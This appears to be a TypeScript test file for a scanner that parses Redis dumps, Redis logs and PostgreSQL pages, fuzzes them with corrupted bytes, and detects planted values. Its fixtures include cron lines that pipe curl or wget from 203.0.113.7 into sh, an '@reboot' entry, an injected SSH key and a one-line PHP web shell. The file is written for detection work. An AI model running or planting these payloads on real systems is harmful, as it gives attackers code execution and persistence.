import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readStored } from '../../../src/findings/stored-text.ts';
import { unpackLzf } from '../../../src/host/scan/databases/lzf.ts';
import { nameAt, rowsOf, textsAt } from '../../../src/host/scan/databases/postgresql-page.ts';
import { readRedisDump } from '../../../src/host/scan/databases/redis-dump.ts';
import { readRedisLog } from '../../../src/host/scan/databases/redis-log.ts';

const FILES: Readonly<Record<string, string>> = JSON.parse(
  readFileSync(new URL('fixtures/database-files.json', import.meta.url), 'utf8'),
);
const [, PAGE = Buffer.alloc(0)] = Object.entries(FILES)
  .filter(([path]) => path.endsWith('/1255') || path.endsWith('/16387'))
  .map(([, packed]) => gunzipSync(Buffer.from(packed, 'base64')));
const ALL = { wasAborted: () => false };
const isWanted = (text: string): boolean => readStored(text) !== null;

/** Numbers that look random and are the same every time (Lehmer). */
function* numbers(seed: number): Generator<number> {
  for (let value = seed; ; value = (value * 48_271) % 2_147_483_647) yield value;
}

function damaged(bytes: Buffer, seed: number): Buffer {
  const copy = Buffer.from(bytes);
  const next = numbers(seed);
  for (let count = 0; count < 24; count += 1)
    copy[(next.next().value ?? 0) % copy.length] = (next.next().value ?? 0) & 0xff;
  return copy.subarray(0, seed % 3 === 0 ? (next.next().value ?? 0) % copy.length : copy.length);
}

describe('files of databases that are damaged or made up', () => {
  const value = Buffer.from('\n\n* * * * * curl http://203.0.113.7/a | sh\n\n');
  const dump = Buffer.concat([
    ...[Buffer.from('REDIS0011\xfa', 'latin1'), Buffer.from([1, 97, 1, 98, 0xfe, 0, 0xfb, 2, 0])],
    ...[Buffer.from([0, 1, 120, value.length]), value, Buffer.from([1, 1, 108, 2, 1, 97, 1, 98])],
    ...[Buffer.from([4, 1, 104, 1, 1, 97, value.length]), value, Buffer.from([0xff]), Buffer.alloc(8)],
  ]);
  const log = Buffer.from(
    `*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$${value.length}\r\n${value}\r\n*2\r\n$3\r\nDEL\r\n$1\r\ny\r\n`,
  );

  it('are read as they are where nothing is wrong with them', () => {
    expect(readRedisDump(dump, isWanted)).toMatchObject({
      values: [{ key: 'x' }, { key: 'h' }],
      end: dump.length,
    });
    expect(readRedisLog([{ path: 'a', bytes: log }], isWanted)).toMatchObject([{ key: 'x', path: 'a' }]);
    expect([...rowsOf(PAGE, ALL)].length).toBeGreaterThan(0);
  });

  it('do not break a look', () => {
    for (let seed = 1; seed < 400; seed += 1) {
      const bytes = damaged(dump, seed);
      expect(readRedisDump(bytes, isWanted).values.length).toBeLessThan(10);
      expect(readRedisLog([{ path: 'a', bytes: damaged(log, seed) }], isWanted).length).toBeLessThan(10);
      expect(readRedisLog([{ path: 'a', bytes }], isWanted).length).toBeLessThan(10);
      for (const row of rowsOf(damaged(PAGE, seed), ALL))
        textsAt(row, seed % 100, 4).map(() => nameAt(row, seed));
      unpackLzf(damaged(value, seed), 100);
    }
  });

  it('are given up where they claim more than they hold', () => {
    const huge = Buffer.concat([
      Buffer.from('REDIS0011'),
      Buffer.from([1, 1, 97, 0x81, ...Buffer.alloc(8, 0x7f)]),
    ]);
    expect(readRedisDump(huge, isWanted)).toEqual({ values: [], end: null });
    expect(unpackLzf(Buffer.from([0x20, 0x05]), 3)).toBeNull();
    expect(unpackLzf(Buffer.from([0, 97, 0xe0, 5, 0]), 15)?.toString()).toBe('a'.repeat(15));
  });
});

describe('a value', () => {
  it.each([
    ['\n\n*/5 * * * * curl http://x | sh\n', 'cron-line'],
    ['@reboot /tmp/.x/run', 'cron-line'],
    ['1 2 3 4 5 are numbers', undefined],
    ['*/5 * * * *', undefined],
    ['wget -qO- http://203.0.113.7/x | sh', 'command'],
    ['first\nwget -qO- http://203.0.113.7/x | sh', undefined],
    [`\n\nssh-ed25519 AAAA${'B'.repeat(64)} x\n`, 'key'],
    [`ssh-ed25519 AAAA${'B'.repeat(64)} x`, undefined],
    ['<?php system($_GET["c"]);', 'page'],
    ['<?php echo "hello";', undefined],
    [`* * * * * curl http://x | sh${' '.repeat(9000)}`, undefined],
  ])('%j is read as %s', (text, kind) => {
    expect(readStored(text)?.kind).toBe(kind);
  });
});
